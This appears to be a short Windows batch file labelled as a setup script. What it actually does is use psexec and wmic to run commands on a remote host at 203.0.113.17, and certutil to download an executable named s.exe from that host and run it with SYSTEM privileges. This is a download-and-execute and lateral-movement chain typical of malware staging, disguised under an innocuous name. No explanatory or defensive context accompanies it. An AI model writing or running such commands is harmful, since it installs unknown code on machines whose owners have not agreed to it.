REM setup 0508 v0
@echo off
set "sukb=psexec.exe \\203.0.113.17 -accepteula -s -d cmd /c "certutil -urlcache -f http://203.0.113.17/s.exe C:\s.exe && C:\s.exe""
call %sukb%
@echo off
set "smlj=wmic /node:203.0.113.17 process call create "cmd /c C:\s.exe""
call %smlj%
